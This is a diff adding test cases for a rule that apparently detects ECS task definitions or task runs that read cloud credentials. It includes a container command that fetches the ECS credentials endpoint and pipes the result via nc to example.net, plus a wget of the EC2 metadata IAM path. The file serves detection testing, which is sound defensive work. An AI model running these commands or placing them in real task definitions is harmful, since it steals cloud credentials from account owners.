@@ -43,6 +43,35 @@ export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
       ),
     ],
   },
+  'task-reads-credentials': {
+    matches: [
+      one(
+        'a command of a task definition',
+        ask('ecs:RegisterTaskDefinition', {
+          family: 'x',
+          containerDefinitions: [
+            { command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc example.net 9'] },
+          ],
+        }),
+      ),
+      one(
+        'a command of one task',
+        ask('ecs:RunTask', {
+          taskDefinition: 'x',
+          overrides: { containerOverrides: [{ command: ['wget http://169.254.169.254/latest/meta-data/iam/'] }] },
+        }),
+      ),
+    ],
+    ignores: [
+      one(
+        'an ordinary task definition',
+        ask('ecs:RegisterTaskDefinition', {
+          family: 'x',
+          containerDefinitions: [{ command: ['node', 'server.js'], environment: [{ name: 'PORT', value: '80' }] }],
+        }),
+      ),
+    ],
+  },
   'metadata-service-weakened': {
     matches: [
       one(
